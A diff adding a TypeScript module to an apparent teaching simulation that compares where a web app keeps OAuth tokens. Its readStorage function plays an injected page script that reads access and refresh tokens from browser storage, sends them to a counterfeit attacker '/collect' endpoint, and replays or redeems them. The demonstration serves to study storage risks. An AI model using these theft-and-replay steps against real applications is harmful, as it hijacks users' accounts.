@@ -1,0 +1,112 @@
+import type { Machine } from '../../../machine/machine.ts';
+import type { Run } from '../../../machine/run/run.ts';
+import { COUNTERFEIT, serverOf } from '../../../machine/run/server-of.ts';
+import { formMessage } from '../../../machine/run/token-request.ts';
+import { RefusedAtServer } from '../../../machine/run/user-agent.ts';
+import { membersOf, responseOf } from '../../../machine/wire/exchange.ts';
+import type { Middleware } from '../../../machine/wire/recorder.ts';
+import { tokenRequests } from '../../chapters/evidence.ts';
+import { backendClient, signInThroughBackend } from './backend.ts';
+
+export const NOTHING_FOUND = 'nothing';
+
+/** Where the tokens of an app are, and what a script in its page can do with that. */
+export interface Pattern {
+  name: string;
+  /** Signs in. */
+  open(machine: Machine, origin: string): Promise<Page>;
+}
+
+/** A page that is signed in, as a script in it sees it. */
+export interface Page {
+  run: Run;
+  /** The lane that the page is drawn in. */
+  lane: 'client' | 'browser';
+  /** The texts in `localStorage` and `sessionStorage`. */
+  stored(): string[];
+  /** What the page does for a person, and a script does, too. */
+  call(): Promise<void>;
+}
+
+/** Takes what a script brings. */
+const attackersServer: Middleware = (next) => async (url, init) =>
+  serverOf(url) === 'attacker' ? new Response(null, { status: 204 }) : next(url, init);
+
+const textsIn = ({ storage, shared }: Run): string[] =>
+  [storage, shared].flatMap((area) => [...area.getSnapshot().values()]);
+
+export const LOCAL_STORAGE: Pattern = {
+  name: 'both in localStorage',
+  async open(machine) {
+    const run = machine.start({ middleware: [attackersServer] });
+    await run.signIn();
+    const exchange = tokenRequests(machine.log.getSnapshot(), 'authorization_code').at(-1);
+    // WRONG: every script of this origin reads it, now and after the next start of the browser.
+    run.shared.setItem('tokens', JSON.stringify(membersOf(exchange && responseOf(exchange))));
+    return { run, lane: 'client', stored: () => textsIn(run), call: () => run.callTool('whoami') };
+  },
+};
+
+export const IN_MEMORY: Pattern = {
+  name: 'in memory and sessionStorage, as in this app',
+  async open(machine) {
+    const run = machine.start({ middleware: [attackersServer] });
+    await run.signIn();
+    return { run, lane: 'client', stored: () => textsIn(run), call: () => run.callTool('whoami') };
+  },
+};
+
+export const BACKEND: Pattern = {
+  name: 'at a backend',
+  async open(machine, origin) {
+    const clients = [backendClient(`${origin}/callback`)];
+    const run = machine.start({ clients, middleware: [attackersServer] });
+    const page = await signInThroughBackend(machine, run);
+    return { run, lane: 'browser', stored: () => textsIn(run), call: () => page.call('whoami') };
+  },
+};
+
+export const PATTERNS = {
+  question: 'Where are the tokens?',
+  all: [LOCAL_STORAGE, IN_MEMORY, BACKEND],
+} as const;
+
+/** A token that a script finds in a text of a storage, an access token first. */
+function tokenIn(texts: readonly string[]): { access?: string; refresh?: string } {
+  const found: { access?: string; refresh?: string } = {};
+  for (const text of texts) {
+    const { access_token, refresh_token, refreshToken } = membersOf({ status: 0, headers: {}, body: text });
+    if (typeof access_token === 'string') found.access = access_token;
+    const refresh = refresh_token ?? refreshToken;
+    if (typeof refresh === 'string') found.refresh = refresh;
+  }
+  return found;
+}
+
+/** The script reads the storage and sends the attacker what it finds, who uses it. */
+export async function readStorage({ run, lane, stored }: Page): Promise<void> {
+  const { access, refresh } = tokenIn(stored());
+  const { method, url, headers, body } = formMessage(`${run.origin}${COUNTERFEIT}/collect`, {
+    taken: access ?? refresh ?? NOTHING_FOUND,
+  });
+  await run.networkFor(lane, 'back')(url, { method, headers, body });
+  if (access !== undefined) {
+    await run.attacker().callTool('whoami', {}, access);
+    return;
+  }
+  if (refresh === undefined) return;
+  const form = { grant_type: 'refresh_token', refresh_token: refresh, client_id: 'this-app' };
+  await run.send(formMessage(`${run.issuer}/token`, form), 'attacker');
+}
+
+/** The script asks for a token in the address (RFC 6749 §4.2). */
+export async function askInTheAddress(machine: Machine): Promise<void> {
+  try {
+    await machine.start().authorize({
+      request: ({ searchParams }) => searchParams.set('response_type', 'token'),
+    });
+  } catch (error) {
+    // The report names this refusal, as that of the server.
+    if (!(error instanceof RefusedAtServer)) throw error;
+  }
+}
